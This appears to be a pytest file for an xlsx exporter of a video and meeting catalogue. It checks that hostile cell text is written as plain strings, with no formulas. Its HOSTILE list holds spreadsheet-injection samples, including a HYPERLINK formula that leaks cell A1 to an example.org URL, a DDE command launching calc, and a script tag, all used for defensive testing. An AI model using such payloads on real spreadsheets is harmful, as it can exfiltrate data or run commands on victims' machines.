"""Workbooks of Excel, read back by openpyxl and by LibreOffice."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
import zipfile
from typing import TYPE_CHECKING

import pytest
from builders import records_of, shipped
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook
from workbooks import (
    custom_properties,
    everyone,
    expected_rows,
    opened,
    parts,
    rows,
    selection_of,
    strings,
    written,
)

from icccat.errors import Refused
from icccat.formats.book.columns import columns_of
from icccat.formats.xlsx import write
from icccat.records.kinds import KINDS
from icccat.records.record import Record

if TYPE_CHECKING:
    from pathlib import Path

    from icccat.formats import Selection

RECORDS = everyone(
    records_of("""
[video.inclusion]
title = { en = "Inclusion, in short", fr = "L’inclusion" }
date = 2019-06-20
part = 2
topics = ["refugees", "media"]
duration = "8:05"
url = "https://vimeo.com/340198046"
supplied = true
notes = "Ask for the subtitles."

[video.rumours]
title = "=1+1"
date = "2019-06"

[meeting.lab]
title.uk = "Зустріч"
start = 2019-05-28
end = "2019"
[[meeting.lab.documents]]
title = "Report"
url = "https://rm.coe.int/report"
type = "report"
""")
)

# What spreadsheets might run, or XML or Excel might read in another way.
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1-1",
    "@SUM(1)",
    '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "=cmd|'/c calc'!A1",
    "{=1+1}",
    "'=1+1",
    "'quoted",
    "＝1+1",  # noqa: RUF001 (a full-width sign)
    "<script>alert(1)</script>",
    "</t></si>&amp;]]>",
    "<r>a run</r>",
    "<r><t>a run</t></r>",
    "_x000D_",
    "_x0041_x0042_x0043_",
    "2019-06-20",
    "1/2",
    "1e5",
    "007",
    "TRUE",
    "#N/A",
    "http://example.org",
    "internal:Videos!A1",
    " blanks ",
    "One line\nand another\n",
    "a\ttab",
    "\u202eright to left",
    "\x7f\x85\u2028\ufeff",
    "Vielfalt 🌍 vereint",
]


def hostile() -> list[Record]:
    """A video for each hostile text, in its title and in what it has many of."""
    return [
        Record("video", f"hostile-{number}", {"title": {"en": text}, "speakers": (text, text)})
        for number, text in enumerate(HOSTILE)
    ]


def of_kind(selection: Selection, kind: str) -> list[Record]:
    """The records of a kind."""
    return [record for record in selection.records if record.kind == kind]


def test_a_sheet_for_each_kind() -> None:
    """After the first sheet there is one for each kind, its cells as they should be."""
    book = written(selection_of(RECORDS, "title", "title_fr", "date", "part", "start", "documents"))
    assert book.sheetnames == ["Read me", "Videos", "Meetings"]
    assert list(book["Videos"].values) == [
        ("id", "title", "title (fr)", "date", "part", "documents"),
        ("inclusion", "Inclusion, in short", "L’inclusion", dt.datetime(2019, 6, 20), 2, None),  # noqa: DTZ001 (as openpyxl reads days)
        ("rumours", "=1+1", None, "2019-06", None, None),
    ]
    assert list(book["Meetings"].values) == [
        ("id", "title", "title (fr)", "date", "start", "documents"),
        (
            "lab",
            "Зустріч",
            None,
            "2019-05-28/2019",
            dt.datetime(2019, 5, 28),  # noqa: DTZ001 (as openpyxl reads days)
            "Report | https://rm.coe.int/report | report",
        ),
    ]


def test_french() -> None:
    """For a reader of French the sheets and the headings are French, all but the id."""
    book = written(selection_of(RECORDS, "title_fr", "url", "duration", "start", reader="fr"))
    assert book.sheetnames == ["Lisez-moi", "Vidéos", "Réunions"]
    assert rows(book["Vidéos"])[0] == ["id", "titre (fr)", "lien", "durée"]
    assert rows(book["Réunions"])[0] == ["id", "titre (fr)", "lien", "début"]
    assert book.properties.title == "Vidéos et réunions"


def test_no_records() -> None:
    """Of nothing there is the first sheet."""
    assert written(selection_of([])).sheetnames == ["Read me"]


def test_notes_only_when_asked_for() -> None:
    """The internal notes are there only if they are wanted."""
    assert "Ask for the subtitles." not in strings(write(selection_of(RECORDS), to_file=True))
    asked = selection_of(RECORDS, notes=True)
    assert "Ask for the subtitles." in strings(write(asked, to_file=True))


def test_the_properties() -> None:
    """The file says its title, its day and the language of its content, and names nobody."""
    data = write(selection_of(RECORDS, content="fr"), to_file=True)
    properties = opened(data).properties
    assert properties.title == "Videos & meetings"
    assert properties.created == properties.modified == dt.datetime(2026, 3, 1)  # noqa: DTZ001 (as openpyxl reads it)
    assert not properties.creator
    assert not properties.lastModifiedBy
    assert custom_properties(data) == {"icccat content": "fr"}


def test_the_same_bytes() -> None:
    """The same records make the same file, on the screen too; in it is no time of day."""
    data = write(selection_of(RECORDS), to_file=True)
    assert write(selection_of(RECORDS), to_file=False) == data
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        assert {one.date_time for one in file.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_the_whole_catalogue() -> None:
    """Of the catalogue that comes with the project, every cell is read back as it was."""
    selection = selection_of([*everyone(shipped()), *hostile()])
    _front, *sheets = written(selection).worksheets
    assert [sheet.title for sheet in sheets] == ["Videos", "Meetings", "Series", "Topics", "Places"]
    for kind, sheet in zip(KINDS, sheets, strict=True):
        records = of_kind(selection, kind)
        expected = expected_rows(records, columns_of(selection, kind, records))
        assert rows(sheet)[1:] == expected


def test_no_formulas() -> None:
    """There is no formula in the file, and nothing that would be fetched."""
    data = write(selection_of([*RECORDS, *hostile()]), to_file=True)
    tags = {
        element.tag.rpartition("}")[2] for _name, root in parts(data) for element in root.iter()
    }
    assert not tags & {"f", "calculatedColumnFormula", "totalsRowFormula", "externalReference"}
    kinds = {cell.data_type for sheet in opened(data) for row in sheet for cell in row}
    assert kinds == {"s", "n", "d", "b"}


@given(st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=200))
@example("<r></r>")
@example("<r>a_x0041_x0042_</r>")
@example("_x0041\x01_x0042_")
@example("_x005F_x0041_x005F_")
@example("\x00\x0b\r\n\ufffe\uffff\x7f")
def test_any_text(text: str) -> None:
    """Whatever a text holds, the file is well-formed, and its text the same; nothing is run."""
    record = Record(
        "video", text, {"title": {"en": text, "fr": f" {text}\n"}, "speakers": (text, text)}
    )
    selection = selection_of([record], query=text)
    data = write(selection, to_file=True)
    columns = columns_of(selection, "video", [record])
    texts = {column.cell(record) for column in columns} | {text}
    assert texts - {""} <= set(strings(data))
    _front, videos = opened(data).worksheets
    assert {cell.data_type for cell in videos[2]} == {"s", "n"}  # n: where there is nothing


@given(st.text("_x0041F<r>/\x01", min_size=1, max_size=60))
def test_texts_that_look_like_escapes(text: str) -> None:
    """What looks like an escape, or like markup, is read back as it was."""
    record = Record("video", "any", {"title": {"en": text}})
    assert text in strings(write(selection_of([record], "title"), to_file=True))


def test_what_is_too_long() -> None:
    """Each text that no cell can hold is refused, naming its record and its field."""
    long, longest = "é" * 32_768, "é" * 32_767
    records = [
        Record("video", "one", {"title": {"en": longest, "fr": long}}),
        Record("video", "two", {"title": {"en": "😀" * 16_384}, "speakers": (longest, "b")}),
    ]
    with pytest.raises(Refused) as caught:
        write(selection_of(records), to_file=True)
    rest = "a cell holds at most 32,767 characters: export it as json"
    assert caught.value.lines == (
        f"video.two: title (en): {rest}",
        f"video.one: title (fr): {rest}",
        f"video.two: speakers: {rest}",
    )


def converted(data: bytes, folder: Path, form: str) -> Path:
    """The folder in which LibreOffice put what it made of a workbook."""
    (folder / "made.xlsx").write_bytes(data)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            *("--headless", "--convert-to", form),
            *("--outdir", str(folder / "out"), str(folder / "made.xlsx")),
        ],
        check=True,
        capture_output=True,
    )
    return folder / "out"


needs_libreoffice = pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice is not installed"
)


@needs_libreoffice
def test_libreoffice_saves_it(tmp_path: Path) -> None:
    """Saved by LibreOffice, it has every cell, and the tables and the hidden ids too.

    What is true is a formula there, `=TRUE()`; its value is read.
    """
    selection = selection_of([*everyone(shipped()), *hostile()])
    folder = converted(write(selection, to_file=True), tmp_path, "xlsx")
    saved, ours = load_workbook(folder / "made.xlsx", data_only=True), written(selection)
    assert saved.sheetnames == ours.sheetnames
    for sheet, own in zip(saved, ours, strict=True):
        assert rows(sheet) == rows(own)
        tables, own_tables = sheet.tables.values(), own.tables.values()
        assert [(t.name, t.ref) for t in tables] == [(t.name, t.ref) for t in own_tables]
    assert [sheet.column_dimensions["A"].hidden for sheet in saved] == [
        False,
        True,
        True,
        False,
        False,
        False,
    ]
    assert custom_properties((folder / "made.xlsx").read_bytes()) == {"icccat content": "both"}


@needs_libreoffice
def test_libreoffice_makes_csv_of_it(tmp_path: Path) -> None:
    """In the CSV that LibreOffice makes of each sheet, every cell says what it should."""
    selection = selection_of([*everyone(shipped()), *hostile()])
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,true,false,false,-1"
    folder = converted(write(selection, to_file=True), tmp_path, every_sheet)
    flags = {"true": "TRUE", "false": "FALSE"}
    for sheet in written(selection).worksheets[1:]:
        text = (folder / f"made-{sheet.title}.csv").read_text(encoding="utf-8-sig")
        lines = list(csv.reader(io.StringIO(text, newline="")))
        assert lines == [[flags.get(cell, cell) for cell in row] for row in rows(sheet)]
